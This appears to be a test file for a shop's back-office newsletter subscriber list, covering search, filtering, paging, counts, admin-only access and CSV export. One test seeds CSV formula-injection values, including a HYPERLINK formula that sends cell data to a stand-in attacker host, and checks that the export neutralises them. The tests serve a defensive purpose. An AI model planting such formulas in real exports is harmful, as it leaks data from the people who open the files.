import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { SUBSCRIBER_PAGE_SIZE } from "../../app/domain/newsletter/subscriber-list";
import { subscribers } from "../../db/schema";
import { useShopServices } from "../../tests/setup/shop-fixtures";
import { callerFor } from "../../tests/setup/trpc-caller";

const shop = useShopServices();

function seed() {
  shop.t.db.delete(subscribers).run();
  shop.t.db
    .insert(subscribers)
    .values([
      { email: "ada@example.com", favoriteGenre: "Jazz", subscribedAt: "2026-11-01T10:00:00.000Z" },
      { email: "bob@example.com", favoriteGenre: "Soul", subscribedAt: "2026-11-02T10:00:00.000Z", hasUsedDiscount: true },
      {
        email: "=cmd@example.com",
        favoriteGenre: "Jazz",
        subscribedAt: "2026-11-03T10:00:00.000Z",
        unsubscribedAt: "2026-11-20T15:30:00.000Z",
      },
      { email: "100%_real@example.com", favoriteGenre: null, subscribedAt: "2026-11-04T10:00:00.000Z" },
    ])
    .run();
}

describe("the back office's subscriber list", () => {
  it("lists newest first, searches email and genre, filters by status, and counts both", () => {
    seed();
    const list = (q: Partial<{ q: string; status: "all" | "subscribed" | "unsubscribed"; page: number }>) =>
      shop.s.adminSubscribers.list({ status: "all", page: 1, ...q });
    expect(list({}).items.map((s) => s.email)).toEqual([
      "100%_real@example.com",
      "=cmd@example.com",
      "bob@example.com",
      "ada@example.com",
    ]);
    expect(list({}).counts).toMatchObject({ total: 4, subscribed: 3, unsubscribed: 1 });
    expect(list({ q: "JAZZ" }).items.map((s) => s.email)).toEqual(["=cmd@example.com", "ada@example.com"]);
    expect(list({ q: "jazz", status: "subscribed" }).items.map((s) => s.email)).toEqual(["ada@example.com"]);
    expect(list({ status: "unsubscribed" }).items).toMatchObject([
      { email: "=cmd@example.com", unsubscribedAt: "2026-11-20T15:30:00.000Z" },
    ]);
    // % and _ are themselves, not wildcards.
    expect(list({ q: "0%_r" }).items.map((s) => s.email)).toEqual(["100%_real@example.com"]);
    expect(list({ q: "%" }).total).toBe(1);
  });

  it("pages, keeping a page past the end on the last one", () => {
    shop.t.db.delete(subscribers).run();
    shop.t.db
      .insert(subscribers)
      .values(Array.from({ length: SUBSCRIBER_PAGE_SIZE + 3 }, (_, i) => ({ email: `p${i}@example.com` })))
      .run();
    const last = shop.s.adminSubscribers.list({ status: "all", page: 99 });
    expect([last.page, last.pageCount, last.items.length, last.total]).toEqual([2, 2, 3, SUBSCRIBER_PAGE_SIZE + 3]);
  });

  it("exports the filtered list as CSV with London times, formula-like cells made text", () => {
    seed();
    const csv = shop.s.adminSubscribers.csv({ status: "all" });
    const lines = csv
      .replace(/^\uFEFF/, "")
      .trimEnd()
      .split("\r\n");
    expect(lines[0]).toBe("Email,Favourite genre,Subscribed,Unsubscribed,Code used");
    expect(lines).toHaveLength(5);
    expect(lines).toContain("'=cmd@example.com,Jazz,03/11/2026 10:00,20/11/2026 15:30,no");
    expect(lines).toContain("bob@example.com,Soul,02/11/2026 10:00,,yes");
    expect(shop.s.adminSubscribers.csv({ status: "unsubscribed" }).trimEnd().split("\r\n")).toHaveLength(2);
  });

  it("writes an e-mail address or genre a spreadsheet would run as a formula with an apostrophe in front", () => {
    shop.t.db.delete(subscribers).run();
    shop.t.db
      .insert(subscribers)
      .values([
        { email: '=HYPERLINK("http://evil.example/?leak="&A1)@example.com', favoriteGenre: "@SUM(A1)" },
        // An address with an apostrophe of its own keeps it when a spreadsheet opens the file.
        { email: "'=o'neil@example.com", favoriteGenre: "-Jazz" },
      ])
      .run();
    const [, ...rows] = parseCsv(shop.s.adminSubscribers.csv({ status: "all" }), { bom: true }) as string[][];
    expect(rows.map((r) => r.slice(0, 2))).toEqual([
      ["''=o'neil@example.com", "'-Jazz"],
      ['\'=HYPERLINK("http://evil.example/?leak="&A1)@example.com', "'@SUM(A1)"],
    ]);
  });

  it("is admin.subscribers.list in tRPC, for admins only", async () => {
    seed();
    await expect(callerFor(shop, { id: 1, username: "c", role: "customer" }).admin.subscribers.list({})).rejects.toMatchObject({
      code: "FORBIDDEN",
    });
    const admin = await shop.s.accounts.register({
      username: "mailadmin",
      email: "mailadmin@example.com",
      password: "correct horse battery",
    });
    const page = await callerFor(shop, { id: admin.id, username: admin.username, role: "admin" }).admin.subscribers.list({
      status: "subscribed",
    });
    expect(page.total).toBe(3);
  });
});

describe("the subscribers page's figures", () => {
  function seedMixed() {
    shop.t.db.delete(subscribers).run();
    shop.t.db
      .insert(subscribers)
      .values([
        { email: "fan1@example.com", favoriteGenre: "Jazz" },
        { email: "fan2@example.com", favoriteGenre: "jazz" },
        { email: "fan3@example.com", favoriteGenre: " Soul " },
        { email: "gone@example.com", favoriteGenre: "Jazz", unsubscribedAt: "2026-11-20T15:30:00.000Z" },
        { email: "nogenre@example.com", favoriteGenre: null },
        { email: "oddgenre@example.com", favoriteGenre: "Krautrock" },
        { email: "gone2@example.com", favoriteGenre: null, unsubscribedAt: "2026-11-21T15:30:00.000Z" },
      ])
      .run();
  }

  const list = (status: "all" | "subscribed" | "unsubscribed", q?: string) =>
    shop.s.adminSubscribers.list({ status, page: 1, ...(q ? { q } : {}) });

  it("add up: subscribed and unsubscribed make everyone on the list, whatever the list is filtered to", () => {
    seedMixed();
    const { counts } = list("all", "fan");
    expect(counts).toMatchObject({ total: 7, subscribed: 5, unsubscribed: 2 });
    expect(counts.subscribed + counts.unsubscribed).toBe(counts.total);
    // The same words filter the list to the same sets.
    expect(list("all").total).toBe(counts.total);
    expect(list("subscribed").total).toBe(counts.subscribed);
    expect(list("unsubscribed").total).toBe(counts.unsubscribed);
  });

  it("count each genre's subscribers as the genre segment reaches them, and the genres with the rest make the subscribed figure", () => {
    seedMixed();
    const { counts } = list("all");
    const genre = (g: string) => counts.byGenre.find((b) => b.genre === g)?.subscribed;
    expect([genre("Jazz"), genre("Soul"), genre("Rock"), counts.otherGenre]).toEqual([2, 1, 0, 2]);
    expect(counts.byGenre.reduce((n, b) => n + b.subscribed, 0) + counts.otherGenre).toBe(counts.subscribed);
    for (const b of counts.byGenre) {
      expect(shop.s.campaigns.audience({ segment: "genre-fans", genre: b.genre }), b.genre).toBe(b.subscribed);
    }
    expect(shop.s.campaigns.audience({ segment: "all" })).toBe(counts.subscribed);
  });
});
